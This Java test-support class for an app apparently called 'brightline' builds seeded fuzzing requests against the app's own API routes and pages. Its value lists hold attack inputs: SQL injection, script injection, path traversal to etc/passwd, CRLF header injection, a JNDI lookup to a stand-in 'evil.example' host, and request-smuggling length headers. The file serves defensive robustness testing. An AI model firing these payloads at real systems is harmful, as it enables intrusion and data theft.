package brightline.proof;

import brightline.edge.access.AccountRole;
import brightline.edge.access.RouteRule;
import brightline.proof.ApiDescription.Operation;
import brightline.proof.ApiDescription.Parameter;
import brightline.proof.HostileRequest.Fault;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.EnumSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import java.util.function.Consumer;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;
import org.springframework.http.HttpMethod;

/** Makes hostile requests from a seed: one of everything there is to ask, sent by anybody, wrong in one or two places. */
final class HostileRequests {
    /** Stands in what is sent for what must not come back. */
    static final String MARKER = "Zyxwvella-Heliotrope";

    private static final Pattern VARIABLE = Pattern.compile("\\{\\*?[^{}]*}");
    private static final String FORM_TYPE = "application/x-www-form-urlencoded";

    /** As they stand in an address or a form: encoded already, or deliberately not. */
    private static final List<String> VALUES = List.of(
            "",
            "%00",
            "a%00b",
            "%01",
            "%1b[31m",
            "%7f",
            "%0d%0aSet-Cookie:%20a=b",
            "%ff",
            "%ed%a0%80",
            "%zz",
            "%",
            "%c0%af",
            "%e2%80%ae" + MARKER,
            "%f0%9f%98%80",
            "%EF%BF%BF",
            MARKER,
            MARKER + "%27%3B%20drop%20table%20log.domain_event_entry%3B%20--",
            "%3Cscript%3E" + MARKER + "%3C/script%3E",
            "%24%7B7*7%7D",
            "..%2f..%2fetc%2fpasswd",
            "-1",
            "0",
            "1e400",
            "2147483648",
            "9223372036854775807",
            "9223372036854775808",
            "99999999999999999999999999",
            "NaN",
            "%2B999999999-01-01",
            "-999999999-12-31",
            "0000-00-00",
            "9999-12-31",
            "1582-10-10",
            "2026-02-30",
            "2026-03-02T10:15:00",
            "%2B999999999-12-31T23:59:59Z",
            "2026-03-02T10:15:00%2B99:00",
            "2016-12-31T23:59:60Z",
            "2026-13",
            "9999-99",
            "00000000-0000-0000-0000-000000000000",
            "1-1-1-1-1",
            "null",
            "true",
            "%5B%5D",
            "%7B%7D",
            "a,b,c,,,",
            ",",
            "class,school,officer,month,race,sex,gradeBand,disability,englishLearner,tier,action,outcome",
            "7".repeat(1_900),
            "7".repeat(2_500),
            MARKER.repeat(200),
            base64("+1000000000-01-01T00:00:00Z|00000000-0000-0000-0000-000000000000"),
            base64("-1000000000-01-01T00:00:00Z|00000000-0000-0000-0000-000000000000"),
            base64("2026-03-02T10:15:00Z|x"),
            base64("999999999999999999|timeline"),
            base64("|"),
            "AAAA",
            "====",
            "1");

    /** For headers; none breaks a line. */
    private static final List<String> HEADER_VALUES = List.of(
            "",
            " ",
            "*/*",
            "*",
            ",",
            ";",
            "/",
            "application/*",
            "application/json; charset=heliotrope",
            "application/json; charset=utf-16",
            "text/plain",
            "text/html",
            "multipart/form-data",
            "multipart/form-data; boundary=",
            "multipart/mixed; boundary=b",
            FORM_TYPE,
            FORM_TYPE + "; charset=heliotrope",
            "\"0\"",
            "W/\"0\"",
            "\"-1\"",
            "\"99999999999999999999\"",
            "\"",
            "*, *",
            MARKER,
            MARKER.repeat(50),
            "x".repeat(7_000),
            "\u00e9\u00ff\u0080",
            "Basic",
            "Basic !!!",
            "Basic " + base64("a\0b:pw"),
            "Basic " + base64(MARKER),
            "Basic " + base64(":"),
            "Basic " + base64("sysadmin:" + MARKER),
            "Bearer",
            "Bearer ",
            "Bearer bl_" + "A".repeat(43),
            "Bearer \u00e9",
            "Digest username=\"" + MARKER + "\"",
            "bytes=0-,0-,0-",
            "gzip, deflate, br",
            "-1",
            "99999999999999999999",
            "Mon, 00 Foo 0000 00:00:00 GMT",
            "xx-XX-heliotrope-" + "a".repeat(60),
            "JSESSIONID=" + MARKER,
            "__Host-brightline=; brightline-csrf=%00; a",
            "=;=;=",
            "evil.example",
            "localhost:99999999",
            "[::1",
            "${jndi:ldap://evil.example/a}");

    private static final List<String> HEADERS = List.of(
            "Accept",
            "Content-Type",
            "If-Match",
            "If-None-Match",
            "If-Modified-Since",
            "Idempotency-Key",
            "Authorization",
            "Cookie",
            "Host",
            "Origin",
            "Referer",
            "Range",
            "Accept-Language",
            "Accept-Encoding",
            "Content-Encoding",
            "Expect",
            "X-Request-Id",
            "X-CSRF-TOKEN",
            "X-HTTP-Method-Override",
            "X-Forwarded-Host",
            "X-Forwarded-For",
            "Forwarded");

    private static final List<String> METHODS =
            List.of("GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "PROPFIND", "get");

    private final Random random;
    private final String authority;
    private final List<Target> targets;
    private final Map<AccountRole, Visitor> visitors;
    private int made;

    /** A way in: a token for programs, and a browser's cookie with its pages' secret. */
    record Visitor(String token, String cookie, String secret) {}

    /**
     * @param body an example; null for none
     * @param mayAsk in the order of the roles, so that a seed says all
     */
    private record Target(
            String method,
            String path,
            List<Parameter> parameters,
            @Nullable String body,
            List<AccountRole> mayAsk) {
        boolean isPage() {
            return !path.startsWith("/api/") && !path.startsWith("/v3") && !path.startsWith("/actuator");
        }
    }

    /** Of the making: what has been said so far. */
    private static final class Draft {
        String method = "GET";
        String path = "/";
        String version = "HTTP/1.1";
        final List<String> query = new ArrayList<>();
        final Map<String, List<String>> headers = new LinkedHashMap<>();
        byte[] body = new byte[0];
        boolean cutOff;
        final Set<Fault> faults = EnumSet.noneOf(Fault.class);
        final List<String> done = new ArrayList<>();

        void header(String name, String value) {
            headers.put(name, new ArrayList<>(List.of(value)));
        }

        void form(String fields) {
            body = fields.getBytes(StandardCharsets.ISO_8859_1);
            header("Content-Type", FORM_TYPE);
            header("Content-Length", String.valueOf(body.length));
        }

        void is(Fault fault, String what) {
            faults.add(fault);
            done.add(what.length() > 80 ? what.substring(0, 80) + "... (" + what.length() + ")" : what);
        }
    }

    HostileRequests(
            long seed,
            String authority,
            List<Operation> operations,
            List<RouteRule> rules,
            Map<AccountRole, Visitor> visitors) {
        this.random = new Random(seed);
        this.authority = authority;
        this.visitors = Map.copyOf(visitors);
        this.targets = new ArrayList<>();
        operations.forEach(one -> targets.add(new Target(
                one.method(),
                one.path(),
                one.parameters(),
                one.body() == null ? null : one.body().toString(),
                rules.stream()
                        .filter(rule -> sameRoute(rule, one.method(), one.path()))
                        .findFirst()
                        .map(HostileRequests::roles)
                        .orElse(List.of()))));
        for (RouteRule rule : rules) {
            if (targets.stream().noneMatch(one -> sameRoute(rule, one.method(), one.path()))) {
                targets.add(new Target(
                        rule.method().name(),
                        rule.pattern().replace("**", "x"),
                        pageParameters(rule.pattern()),
                        rule.method().equals(HttpMethod.POST) ? "{}" : null,
                        roles(rule)));
            }
        }
    }

    private static boolean sameRoute(RouteRule rule, String method, String path) {
        return rule.method().name().equals(method)
                && VARIABLE.matcher(rule.pattern())
                        .replaceAll("")
                        .equals(VARIABLE.matcher(path).replaceAll(""));
    }

    private static List<AccountRole> roles(RouteRule rule) {
        return rule.roles().stream().sorted().toList();
    }

    private static List<Parameter> pageParameters(String path) {
        List<String> names = path.startsWith("/cases")
                ? List.of(
                        "number",
                        "from",
                        "to",
                        "school",
                        "class",
                        "mark",
                        "cursor",
                        "asKnownOn",
                        "step",
                        "shown",
                        "atLeastIndex")
                : path.startsWith("/sign-in")
                        ? List.of("error", "busy", "signed-out", "continue")
                        : List.of(
                                "from",
                                "to",
                                "school",
                                "officer",
                                "asKnownOn",
                                "period",
                                "cursor",
                                "id",
                                "atLeastIndex");
        return names.stream()
                .map(name -> new Parameter(name, "query", false, null))
                .toList();
    }

    /** How many operations and pages there are: so many requests come to each of them. */
    int targets() {
        return targets.size();
    }

    /** Operations and pages in turn. */
    HostileRequest next() {
        Target target = targets.get(made % targets.size());
        Draft draft = new Draft();
        AccountRole as = sender(target);
        good(draft, target, as);
        int wrongs = 1 + random.nextInt(2);
        for (int i = 0; i < wrongs; i++) {
            wrong(draft, target);
        }
        return finished(draft, target, as);
    }

    /** Mostly somebody who may, so that the request comes to whoever answers; sometimes anybody, or nobody. */
    private @Nullable AccountRole sender(Target target) {
        int dice = random.nextInt(10);
        if (dice < 2 || target.path().equals("/sign-out")) {
            return null;
        }
        return dice < 4 || target.mayAsk().isEmpty() ? one(AccountRole.values()) : one(target.mayAsk());
    }

    private void good(Draft draft, Target target, @Nullable AccountRole as) {
        draft.method = target.method();
        draft.path = VARIABLE.matcher(target.path())
                .replaceAll(_ -> new UUID(random.nextLong(), random.nextLong()).toString());
        draft.header("Host", authority);
        draft.header("Connection", "close");
        draft.header("Accept", target.isPage() ? "text/html" : "application/json, application/problem+json");
        for (Parameter parameter : target.parameters()) {
            String example = parameter.example();
            if (parameter.place().equals("query") && example != null && random.nextBoolean()) {
                draft.query.add(parameter.name() + "=" + URLEncoder.encode(example, StandardCharsets.UTF_8));
            }
        }
        if (as != null) {
            Visitor visitor = Objects.requireNonNull(visitors.get(as));
            if (target.isPage()) {
                draft.header("Cookie", visitor.cookie());
                draft.header("X-CSRF-TOKEN", visitor.secret());
            } else {
                draft.header("Authorization", "Bearer " + visitor.token());
            }
        }
        if (!target.method().equals("GET")) {
            draft.header("Idempotency-Key", new UUID(random.nextLong(), random.nextLong()).toString());
            draft.header("If-Match", "\"0\"");
            String body = target.body();
            if (body != null) {
                draft.body = (random.nextBoolean() ? body : "{}").getBytes(StandardCharsets.UTF_8);
                draft.header("Content-Type", "application/json");
                draft.header("Content-Length", String.valueOf(draft.body.length));
            }
        }
        if (target.path().equals("/sign-in") && target.method().equals("POST")) {
            draft.form("username=" + MARKER + "&password=" + MARKER);
        }
    }

    private void wrong(Draft draft, Target target) {
        boolean isForm = target.isPage() && target.method().equals("POST");
        List<Consumer<Draft>> ways = isForm && random.nextInt(3) > 0
                ? List.of(this::wrongForm)
                : List.of(
                        one -> wrongParameter(one, target),
                        one -> wrongParameter(one, target),
                        one -> wrongParameter(one, target),
                        this::wrongHeader,
                        this::wrongHeader,
                        this::wrongHeader,
                        one -> wrongPath(one, target),
                        this::wrongMethod,
                        this::wrongLength,
                        this::wrongLine,
                        this::wrongBody,
                        this::wrongForm);
        one(ways).accept(draft);
    }

    private void wrongParameter(Draft draft, Target target) {
        List<String> names = new ArrayList<>(target.parameters().stream()
                .filter(one -> one.place().equals("query"))
                .map(Parameter::name)
                .toList());
        if (random.nextInt(20) == 0) {
            int many = random.nextBoolean() ? 40 : 1_200;
            IntStream.range(0, many).forEach(i -> draft.query.add("a" + i + "=1"));
            draft.is(Fault.ADDRESS, many + " parameters");
            return;
        }
        if (names.isEmpty() || random.nextInt(8) == 0) {
            names.add(one(List.of("heliotrope", "%00", "%zz", MARKER, "", "a%5B%5D", "_method", "_csrf")));
        }
        String name = one(names);
        String value = one(VALUES);
        if (random.nextInt(8) > 0) {
            draft.query.removeIf(given -> given.startsWith(name + "="));
        }
        draft.query.add(name + "=" + value);
        draft.is(Fault.ADDRESS, name + "=" + value);
    }

    private void wrongPath(Draft draft, Target target) {
        if (target.path().contains("{") && random.nextBoolean()) {
            String value = one(VALUES);
            draft.path = VARIABLE.matcher(target.path())
                    .replaceAll(_ -> value.replace("\\", "").replace("$", ""));
            draft.is(Fault.ADDRESS, "variable " + value);
            return;
        }
        String change = one(List.of(
                ";x=1", "/", "//", "/../..", "/%2e%2e", "%2f", "%5c", ".json", "/%00", "%0a", "%20", "/..;/", "?", "#",
                "\u00e9", "|"));
        draft.path = random.nextInt(4) == 0 ? change + draft.path : draft.path + change;
        draft.is(Fault.ADDRESS, "path with " + change);
    }

    private void wrongMethod(Draft draft) {
        draft.method = one(METHODS);
        draft.is(Fault.LINE, "method " + draft.method);
    }

    private void wrongHeader(Draft draft) {
        String name = one(HEADERS);
        String value = one(HEADER_VALUES);
        if (random.nextInt(8) == 0) {
            draft.headers.remove(name);
            draft.is(Fault.HEADER, "without " + name);
        } else if (random.nextInt(8) == 0) {
            draft.headers.computeIfAbsent(name, _ -> new ArrayList<>()).add(value);
            draft.is(Fault.HEADER, "also " + name + ": " + value);
        } else if (!name.equals("X-Request-Id") || !value.contains(MARKER)) {
            // An id of a request comes back: its sender chose it so that it does.
            draft.header(name, value);
            draft.is(Fault.HEADER, name + ": " + value);
        }
    }

    private void wrongLength(Draft draft) {
        switch (random.nextInt(6)) {
            case 0 -> {
                draft.header("Content-Length", String.valueOf(draft.body.length + 7));
                draft.cutOff = true;
                draft.is(Fault.HEADER, "a body that is cut off");
            }
            case 1 -> {
                draft.header("Content-Length", "-1");
                draft.is(Fault.HEADER, "Content-Length -1");
            }
            case 2 -> {
                draft.header("Content-Length", "99999999999999999999");
                draft.is(Fault.HEADER, "Content-Length beyond a long");
            }
            case 3 -> {
                draft.header("Content-Length", String.valueOf(600L << 20));
                draft.cutOff = true;
                draft.is(Fault.HEADER, "600 MB promised");
            }
            case 4 -> {
                draft.headers.put("Content-Length", new ArrayList<>(List.of("1", "2")));
                draft.is(Fault.HEADER, "two lengths");
            }
            default -> {
                draft.headers.remove("Content-Length");
                draft.header(
                        "Transfer-Encoding", one(List.of("heliotrope", "chunked", "chunked, chunked", "identity")));
                draft.cutOff = true;
                draft.is(Fault.HEADER, "Transfer-Encoding " + draft.headers.get("Transfer-Encoding"));
            }
        }
    }

    private void wrongLine(Draft draft) {
        switch (random.nextInt(4)) {
            case 0 -> draft.version = one(List.of("HTTP/3.7", "HTTP/0.9", "HTTP/1.0", "heliotrope", ""));
            case 1 -> draft.headers.put("bad header " + MARKER, new ArrayList<>(List.of("x")));
            case 2 -> draft.headers.put("X-Many", new ArrayList<>(Collections.nCopies(150, "x")));
            default -> draft.headers.put("X-Long", new ArrayList<>(List.of("x".repeat(20_000))));
        }
        draft.is(Fault.LINE, "line or head: " + draft.version + " " + draft.headers.size());
    }

    private void wrongBody(Draft draft) {
        draft.body = one(List.of(
                        "",
                        "{",
                        "null",
                        "[]",
                        "7",
                        "\"" + MARKER + "\"",
                        "{\"a\":".repeat(200),
                        "{\"a\":1,\"a\":2}",
                        "{\"" + MARKER + "\":1}",
                        "\u00ff\u00fe",
                        "x".repeat(2_000_000)))
                .getBytes(StandardCharsets.ISO_8859_1);
        draft.header("Content-Length", String.valueOf(draft.body.length));
        draft.is(Fault.BODY, "body of " + draft.body.length);
    }

    private void wrongForm(Draft draft) {
        String value = one(VALUES);
        String fields =
                switch (random.nextInt(8)) {
                    case 0 ->
                        IntStream.range(0, 1_500)
                                .mapToObj(i -> "a" + i + "=1")
                                .reduce("a=1", (all, next) -> all + "&" + next);
                    case 1 -> "username=" + value + "&username=" + value;
                    case 2 -> "%zz=" + value;
                    case 3 -> "_csrf=" + value + "&username=a&password=b";
                    case 4 -> "username=a&password=" + value;
                    case 5 -> "current=" + value + "&first=" + value + "&again=" + value;
                    default -> "username=" + value + "&password=" + MARKER;
                };
        draft.form(fields);
        draft.is(Fault.FORM, "form " + fields);
    }

    private HostileRequest finished(Draft draft, Target target, @Nullable AccountRole as) {
        made++;
        StringBuilder head = new StringBuilder(draft.method).append(' ').append(draft.path);
        if (!draft.query.isEmpty()) {
            head.append('?').append(String.join("&", draft.query));
        }
        head.append(' ').append(draft.version).append("\r\n");
        draft.headers.forEach((name, values) -> values.forEach(
                value -> head.append(name).append(": ").append(value).append("\r\n")));
        head.append("\r\n");
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(head.toString().getBytes(StandardCharsets.ISO_8859_1));
        bytes.writeBytes(draft.body);
        String what = "%s %s as %s: %s"
                .formatted(
                        target.method(),
                        target.path(),
                        as == null ? "nobody" : as.text(),
                        String.join(" | ", draft.done));
        if (draft.query.toString().contains("atLeastIndex")) {
            what += " | with atLeastIndex";
        }
        return new HostileRequest(made, what, draft.faults, bytes.toByteArray(), draft.cutOff);
    }

    private static String base64(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private <T> T one(List<T> all) {
        return all.get(random.nextInt(all.size()));
    }

    private <T> T one(T[] all) {
        return all[random.nextInt(all.length)];
    }
}
